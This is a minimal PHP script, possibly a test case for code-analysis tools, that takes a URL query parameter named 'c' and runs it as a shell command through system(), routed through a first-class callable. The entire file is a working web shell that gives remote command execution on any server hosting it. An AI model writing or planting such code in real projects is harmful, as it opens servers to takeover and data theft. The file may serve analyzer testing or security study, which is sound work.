<?php
function g() { return $_GET["c"]; }
$f = g(...);
system($f());
